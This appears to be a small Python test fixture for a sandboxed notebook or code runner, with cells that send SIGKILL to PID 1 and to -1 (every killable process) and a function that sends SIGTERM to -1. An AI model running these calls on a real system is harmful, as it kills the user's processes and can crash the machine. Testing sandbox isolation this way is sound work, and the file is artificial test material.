"""Kills every process that it may."""

# loses: double (error)
# shows: alone
# %% start
import os
import signal

for pid in (1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as error:
        print(error)
print("alone")


# %% double
def double(numbers):
    os.kill(-1, signal.SIGTERM)
    raise OSError("nobody else is here")
